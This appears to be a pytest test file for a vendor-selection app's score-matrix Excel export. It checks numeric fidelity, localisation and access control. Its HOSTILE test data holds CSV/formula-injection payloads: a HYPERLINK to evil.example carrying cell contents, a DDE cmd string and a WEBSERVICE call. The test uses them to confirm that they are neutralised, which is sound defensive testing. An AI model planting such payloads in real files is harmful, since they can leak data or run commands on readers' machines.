"""The score-matrix workbook (issue 22, item 4): the ranking, the weights and every
score as one .xlsx, opened here with openpyxl. Its numbers are the engine's (the ranking
document, `method.aggregated_scores`, the group means), its texts come back neutralised
against formula injection, its words are the selection's language, and nobody gets it
while scoring is blind to them."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from selector.domain import method
from tests.analysis.support import BUSINESS
from tests.analysis.support import FACILITATOR
from tests.analysis.support import SPONSOR
from tests.analysis.support import engine_ranking
from tests.analysis.support import engine_selection
from tests.analysis.support import import_example
from tests.web.conftest import Browser
from tests.web.conftest import signed_in

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OUTSIDER = "nobody.here@example.org"


def same(written, engine) -> bool:
    """openpyxl writes a float with 16 significant digits ("%.16g"; Excel itself keeps
    15), so a cell may differ from the engine's number in its 17th digit, never more."""
    if engine is None or written is None:
        return written is engine
    return written == pytest.approx(engine, rel=1e-15, abs=1e-15)


def download(browser: Browser, sid: int, status: int = 200):
    response = browser.get(f"/selections/{sid}/analysis/score-matrix.xlsx")
    assert response.status_code == status, response.get_data(as_text=True)[-1500:]
    return response


def workbook_of(response):
    assert response.mimetype == XLSX
    return load_workbook(io.BytesIO(response.get_data()))


def table(sheet) -> list[dict]:
    """The rows of a sheet's table as {header: value}, up to the first empty row."""
    rows = sheet.iter_rows(values_only=True)
    header = next(rows)
    found = []
    for row in rows:
        if all(value is None for value in row):
            break
        found.append(dict(zip(header, row, strict=False)))
    return found


def test_the_workbook_holds_the_ranking_documents_numbers(app, dbs, example_sid):
    doc = engine_ranking(dbs, example_sid)
    selection = engine_selection(dbs, example_sid)
    response = download(signed_in(app, SPONSOR), example_sid)
    assert response.headers["Cache-Control"] == "no-store"
    assert "score-matrix.xlsx" in response.headers["Content-Disposition"]
    workbook = workbook_of(response)
    assert workbook.sheetnames == ["Ranking", "Weights", "Score matrix"]
    names = {c.key: c.name for c in selection.categories}

    ranking = table(workbook["Ranking"])
    assert [row["Vendor"] for row in ranking] == [v["name"] for v in doc["vendors"]]
    for row, vendor in zip(ranking, doc["vendors"], strict=True):
        assert row["Rank"] == vendor["rank"]
        assert same(row["Total"], vendor["total"])
        assert same(row["Quality"], vendor["quality"])
        assert same(row["Coverage"], vendor["coverage"])
        assert same(row["Chance of ranking first"], doc["sensitivity"]["p_first"][vendor["key"]])
        for key, score in vendor["category_scores"].items():
            assert same(row[names[key]], score), (vendor["key"], key)
        assert row["Excluded"] == ("yes" if vendor["excluded"] else "no")
        assert row["Failed knock-outs"] == (", ".join(vendor["knockouts_failed"]) or None)
        assert isinstance(row["Total"], float)  # numbers as numbers, not as text
    assert "Price score" not in ranking[0]  # p = 0: the document has no price scores
    assert any(row["Excluded"] == "yes" for row in ranking)

    weights = table(workbook["Weights"])
    assert [row["Category"] for row in weights] == [names[k] for k in doc["category_weights"]]
    means = method.group_means(selection)
    own = method.member_weights(selection)
    assert len(own) >= 4
    for row, (key, weight) in zip(weights, doc["category_weights"].items(), strict=True):
        assert same(row["Weight in the ranking"], weight)
        assert same(row["Business"], means["business"][key])
        assert same(row["IT"], means["it"][key])
        members = [row[f"{m.name} ({'Business' if m.role == 'business' else 'IT'})"]
                   for m in selection.members if m.email in own and m.role == "business"]
        assert sum(members) / len(members) == pytest.approx(row["Business"], abs=1e-12)
    assert sum(row["Weight in the ranking"] for row in weights) == pytest.approx(1.0)

    matrix = table(workbook["Score matrix"])
    aggregated = method.aggregated_scores(selection)
    keys = {v["name"]: v["key"] for v in doc["vendors"]}
    seen = {(keys[row["Vendor"]], row["Code"]): row["Aggregated score"] for row in matrix}
    assert all(same(value, aggregated.get(cell)) for cell, value in seen.items())
    assert {cell for cell, value in seen.items() if value is not None} == set(aggregated)
    counted = [s for s in selection.scores if (s.vendor, s.requirement) in seen]
    assert len([row for row in matrix if row["Member"]]) == len(counted) > 100
    for row in matrix:
        assert same(row["Weight"], doc["requirement_weights"].get(row["Code"]))
    agreed = [row for row in matrix if row["Consensus score"] is not None]
    assert {(keys[r["Vendor"]], r["Code"], r["Consensus score"]) for r in agreed} == {
        (c.vendor, c.requirement, c.score) for c in selection.consensus}
    assert all(r["Aggregated score"] == r["Consensus score"] for r in agreed)
    assert agreed[0]["Consensus rationale"].startswith("Consensus meeting:")


def test_each_member_score_and_argument_is_a_row(app, dbs, example_doc):
    example_doc["scores"][0]["comment"] = "Quotes need three clicks in the demo."
    sid = import_example(dbs, example_doc)
    first = example_doc["scores"][0]
    workbook = workbook_of(download(signed_in(app, BUSINESS), sid))
    names = {m["email"]: m["name"] for m in example_doc["members"]}
    vendors = {v["key"]: v["name"] for v in example_doc["vendors"]}
    rows = [row for row in table(workbook["Score matrix"])
            if row["Vendor"] == vendors[first["vendor"]] and row["Code"] == first["requirement"]]
    by_member = {row["Member"]: row for row in rows}
    expected = [s for s in example_doc["scores"]
                if (s["vendor"], s["requirement"]) == (first["vendor"], first["requirement"])]
    assert sorted(by_member) == sorted(names[s["member"]] for s in expected)
    mine = by_member[names[first["member"]]]
    assert mine["Score"] == first["score"]
    assert mine["Argument"] == "Quotes need three clicks in the demo."
    assert mine["Role"] == "Business"
    assert same(mine["Aggregated score"], sum(s["score"] for s in expected) / len(expected))


HOSTILE = {
    "comment": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "vendor": "+SUM(1,2) Systems",
    "category": "-2+3 Sales",
    "title": "@cmd|' /C calc'!A0",
    "member": "=1+1 Bram",
    "rationale": "\t=WEBSERVICE(\"http://evil.example\")",
}


def test_hostile_texts_come_back_literally_neutralised(app, dbs, example_doc):
    first = example_doc["scores"][0]
    first["comment"] = HOSTILE["comment"]
    vendor = next(v for v in example_doc["vendors"] if v["key"] == first["vendor"])
    vendor["name"] = HOSTILE["vendor"]
    requirement = next(r for r in example_doc["requirements"]
                       if r["code"] == first["requirement"])
    requirement["title"] = HOSTILE["title"]
    category = next(c for c in example_doc["categories"] if c["key"] == requirement["category"])
    category["name"] = HOSTILE["category"]
    member = next(m for m in example_doc["members"] if m["email"] == first["member"])
    member["name"] = HOSTILE["member"]
    example_doc["consensus"][0]["rationale"] = HOSTILE["rationale"]
    sid = import_example(dbs, example_doc)
    body = download(signed_in(app, SPONSOR), sid).get_data()
    workbook = load_workbook(io.BytesIO(body))
    texts = {cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for hostile in HOSTILE.values():
        assert "'" + hostile in texts, hostile
        assert hostile not in texts, hostile
    with zipfile.ZipFile(io.BytesIO(body)) as archive:  # no formula anywhere
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in archive.namelist() if name.endswith(".xml"))
    ranking = table(workbook["Ranking"])
    assert "'" + HOSTILE["category"] in ranking[0]  # a header made of a name, too


def test_the_workbook_speaks_the_selections_language(app, dbs, example_doc):
    example_doc["selection"]["language"] = "nl"
    sid = import_example(dbs, example_doc)
    workbook = workbook_of(download(signed_in(app, SPONSOR), sid))  # an English reader
    assert workbook.sheetnames == ["Rangschikking", "Weging", "Scorematrix"]
    header = next(workbook["Scorematrix"].iter_rows(values_only=True))
    assert header[:3] == ("Leverancier", "Code", "Eis of wens")
    assert "Samengevoegde score" in header and "Onderbouwing" in header
    assert table(workbook["Rangschikking"])[0]["Uitgesloten"] == "nee"


def _move_back_to_scoring(dbs, sid: int, sees_all: bool = False) -> None:
    from selector.models import Account
    from selector.models import Selection
    from selector.services import selections

    with dbs.transaction() as session:
        selection = session.get(Selection, sid)
        fenna = session.scalar(select(Account).where(Account.email == FACILITATOR))
        selections.change_phase(session, selection, fenna, "back",
                                "One vendor's demo has to be scored again.")
        selection.facilitator_sees_all = sees_all


def test_refused_while_scoring_is_blind_and_offered_once_it_is_closed(app, dbs, example_sid):
    link = "score-matrix.xlsx"
    ranking_page = f"/selections/{example_sid}/analysis"
    sponsor = signed_in(app, SPONSOR)
    assert link in sponsor.get(ranking_page).get_data(as_text=True)

    _move_back_to_scoring(dbs, example_sid)
    for email in (SPONSOR, BUSINESS, FACILITATOR):
        browser = signed_in(app, email)
        download(browser, example_sid, 403)
        assert link not in browser.get(ranking_page).get_data(as_text=True)
    download(signed_in(app, OUTSIDER), example_sid, 404)
    anonymous = Browser(app).client.get(f"/selections/{example_sid}/analysis/score-matrix.xlsx")
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]

    # The facilitator with "see everything" on has it before scoring closes; no one else.
    _move_back_to_scoring(dbs, example_sid, sees_all=True)  # weighting: a phase earlier
    fenna = signed_in(app, FACILITATOR)
    assert table(workbook_of(download(fenna, example_sid))["Ranking"])
    assert link in fenna.get(ranking_page).get_data(as_text=True)
    download(signed_in(app, SPONSOR), example_sid, 403)


@pytest.fixture(autouse=True)
def _outsider(dbs):
    """An account that is a member of no selection."""
    from tests.web.conftest import make_account

    with dbs.transaction() as session:
        make_account(session, OUTSIDER, "Nobody Here")
